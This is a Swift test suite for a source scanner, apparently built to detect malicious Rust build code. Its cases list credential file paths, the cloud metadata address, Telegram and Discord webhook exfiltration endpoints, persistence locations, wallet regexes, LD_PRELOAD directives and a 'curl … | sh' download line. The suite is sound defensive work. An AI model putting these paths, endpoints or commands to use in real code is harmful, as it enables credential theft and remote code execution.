import MoatInspection
import Testing

@Suite struct `marks of literals` {
  static let cases: [(String, [Capability])] = [
    ("\"/home/u/.ssh/id_x\"", [.credentialPath]),
    ("b\".aws/credentials\"", [.credentialPath]),
    ("c\"/root/.kube/config\"", [.credentialPath]),
    ("\"\\u{2e}ssh/authorized_keys\"", [.credentialPath]),
    ("\".env\"", [.credentialPath]),
    ("\"http://169.254.169.254/latest\"", [.credentialPath]),
    ("\"the.ssh.example\"", []),
    ("\"my.env file\"", []),
    ("\"login data is wrong\"", []),
    ("\"~/.config/systemd/user/x.service\"", [.persistence, .outsidePath]),
    ("r\"Software\\Microsoft\\Windows\\CurrentVersion\\Run\"", [.persistence]),
    ("\"/tmp/x\"", [.outsidePath]),
    ("\"/tmpfs\"", []),
    ("\"%temp%\\\\a.ps1\"", [.outsidePath]),
    ("\".git\"", [.outsidePath]),
    ("\"https://x.example/repo.git\"", []),
    ("\"https://api.telegram.org/bot1:a/sendMessage\"", [.exfiltrationEndpoint]),
    ("\"https://a.b.workers.dev/x\"", [.exfiltrationEndpoint]),
    ("\"pool.vercel.app\"", [.exfiltrationEndpoint]),
    ("\"https://workers.dev.example/x\"", []),
    ("\"https://notpastebin.com/x\"", []),
    ("\"https://discord.com/api/webhooks/1/a\"", [.exfiltrationEndpoint]),
    ("\"https://discord.com/invite/a\"", []),
    ("\"https://api.ipify.org\"", [.hostTrigger]),
    ("\"http://45.9.148.35/a\"", [.addressLiteral]),
    ("\"http://u:p@45.9.148.35:8080/a\"", [.addressLiteral]),
    ("\"http://[2a01:4f8::1]/a\"", [.addressLiteral]),
    ("\"http://757568547/a\"", [.addressLiteral]),
    ("\"45.9.148.35:4444\"", [.addressLiteral]),
    ("\"http://127.0.0.1/ http://10.1.2.3/ http://192.168.0.1 http://198.51.100.7/\"", []),
    ("\"http://[::1]/ http://[2001:db8::1]/\"", []),
    ("\"1.2.3.4\"", []),
    ("\"http://1.2.3/\"", []),
    ("\"0x[0-9a-fA-F]{64}\"", [.walletPattern]),
    ("r\"[1-9A-HJ-NP-Za-km-z]{87,88}\"", [.walletPattern]),
    ("\"[0-9a-f]{64}\"", []),
    ("\"curl -s http://x.example/a | sh\"", [.downloadScript]),
    ("\"curl -s http://x.example/a\"", []),
    ("\"cargo:rustc-link-arg=-Wl,-x\"", [.linkerDirective]),
    ("\"cargo::rustc-link-lib=z\"", [.linkerDirective]),
    ("\"a\\ncargo:rustc-env=LD_PRELOAD=x\"", [.environmentDirective]),
    ("\"cargo:rustc-env=RUSTC_VERSION=1\"", []),
    ("\"cargo:rerun-if-changed=build.rs\"", []),
    ("\"run cargo:rustc-link-lib=z\"", []),
    ("\"GITLAB_CI\"", [.ciTrigger]),
    ("\"MsMpEng.exe\"", [.hostTrigger]),
  ]

  @Test(arguments: cases)
  func `says what a literal names`(_ literal: String, _ capabilities: [Capability]) {
    let found = Snippet.marks("fn f() { g(\(literal)); }").map(\.capability)
    #expect(found.sorted() == capabilities.sorted())
  }

  @Test(arguments: cases)
  func `says nothing of comments`(_ literal: String, _ capabilities: [Capability]) {
    #expect(Snippet.marks("// \(literal)\n/// \(literal)\n#[doc = \(literal)]\nfn f() {}").isEmpty)
  }

  @Test func `a mark within a literal of several lines has its own line`() throws {
    let mark = try #require(Snippet.marks("const A: &str = r\"\n\n  x/.ssh/y\";").first)
    #expect((mark.line, mark.column) == (3, 5))
    #expect(mark.subject == "\\n\\n  x/.ssh/y")
  }

  @Test func `a long literal is shortened around what was met`() throws {
    let text = String(repeating: "a ", count: 400) + ".ssh/" + String(repeating: "b", count: 400)
    let mark = try #require(Snippet.marks("const A: &str = \"\(text)\";").first)
    #expect(mark.subject.utf8.count < 120)
    #expect(mark.subject.contains(".ssh/"))
  }
}
